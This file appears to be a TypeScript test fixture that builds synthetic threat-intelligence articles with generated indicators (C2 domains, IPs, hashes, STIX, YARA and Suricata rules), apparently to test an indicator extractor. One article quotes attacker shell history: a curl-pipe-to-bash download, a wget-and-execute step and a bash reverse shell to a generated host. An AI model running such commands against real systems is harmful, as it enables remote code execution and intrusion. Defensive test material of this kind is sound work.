import type { LabelledArticle } from "./article.ts";
import { pageOf } from "./page.ts";
import { defanged, made } from "./values.ts";

const SITE = "labs.hunters.example";

const article = (name: string, title: string, body: string, indicators: Iterable<string>): LabelledArticle => ({
  name,
  url: `https://${SITE}/${name}`,
  html: pageOf({ title, site: SITE, body }),
  indicators: new Set(indicators),
});

export const CODE: readonly LabelledArticle[] = [
  (() => {
    const { domains, ips, sha256s } = made(13);
    return article(
      "code-lines",
      "C2 servers of a quarter",
      `<p>This is what our sensors saw.</p><h2>Command and control</h2><pre><code>${[...domains, ...ips.map((one) => `${one}:443`)].join("\n")}</code></pre>
      <h2>Samples</h2><pre>${sha256s.join("\n")}</pre>`,
      [...domains, ...ips, ...sha256s],
    );
  })(),
  (() => {
    const { domains, md5s, ips } = made(14);
    return article(
      "code-csv",
      "All that we have, as CSV",
      `<p>Import it into your tools; the parser is at https://gitlab.com/hunters/csv and needs Python 3.</p>
      <pre>type,value,comment
${domains.map((one) => `domain,${defanged(one)},"c2, active"`).join("\n")}
${md5s.map((one) => `md5,${one},loader.dll`).join("\n")}
${ips.map((one) => `ip,${one},`).join("\n")}</pre>`,
      [...domains, ...md5s, ...ips],
    );
  })(),
  (() => {
    const { domains, sha256s, ips } = made(15);
    return article(
      "code-stix",
      "Indicators to share",
      `<h2>Indicators in STIX 2.1</h2><pre><code class="language-json">{ "type": "bundle", "objects": [
      ${domains.map((one) => `{ "type": "indicator", "spec_version": "2.1", "pattern": "[domain-name:value = '${one}']" }`).join(",\n")},
      ${ips.map((one) => `{ "pattern": "[ipv4-addr:value = '${one}']" }`).join(",\n")},
      ${sha256s.map((one) => `{ "pattern": "[file:hashes.'SHA-256' = '${one}']" }`).join(",\n")} ] }</code></pre>`,
      [...domains, ...ips, ...sha256s],
    );
  })(),
  (() => {
    const { sha256s, md5s } = made(16);
    return article(
      "code-yara",
      "A rule for the packer",
      `<p>Kaspersky calls it Trojan.Win32.Agent.it, others Backdoor.MSIL.Crysan.in.</p><pre>rule packer {
  meta:
    author = "hunters"
    reference = "https://${SITE}/code-yara"
    hash1 = "${sha256s[0]}"
    hash2 = "${md5s[0]}"
  strings:
    $a = "this.state.name" ascii
    $b = { 4D 5A 90 00 }
  condition: all of them
}</pre>`,
      [sha256s[0] ?? "", md5s[0] ?? ""],
    );
  })(),
  (() => {
    const { urls, ips, domains } = made(17);
    return article(
      "code-commands",
      "What the shell history tells",
      `<p>The attackers typed, among others:</p><pre>curl -s ${urls[0]} | bash
wget ${urls[1]} -O /tmp/x &amp;&amp; chmod +x /tmp/x
bash -i >&amp; /dev/tcp/${ips[0]}/4444 0>&amp;1
ping -c 1 127.0.0.1
nslookup ${domains[0]}
python3 setup.py install</pre><p>The beacon in <code>${defanged(domains[1] ?? "")}</code> answers with <code>object.call()</code>.</p>`,
      [urls[0] ?? "", urls[1] ?? "", ips[0] ?? "", domains[0] ?? "", domains[1] ?? ""],
    );
  })(),
  (() => {
    const { ips, domains } = made(18);
    return article(
      "code-rules",
      "Rules for Suricata",
      `<h2>Detection</h2><p>Our rules, for Suricata 7.0.3 and later:</p><pre>alert dns any any -> any any (msg:"C2"; dns.query; content:"${domains[0]}"; nocase; sid:1;)
alert tls $HOME_NET any -> ${ips[0]} 443 (msg:"C2"; tls.sni; content:"${domains[1]}"; reference:url,attack.mitre.org/software/S0154; sid:2;)</pre>`,
      [ips[0] ?? "", domains[0] ?? "", domains[1] ?? ""],
    );
  })(),
];
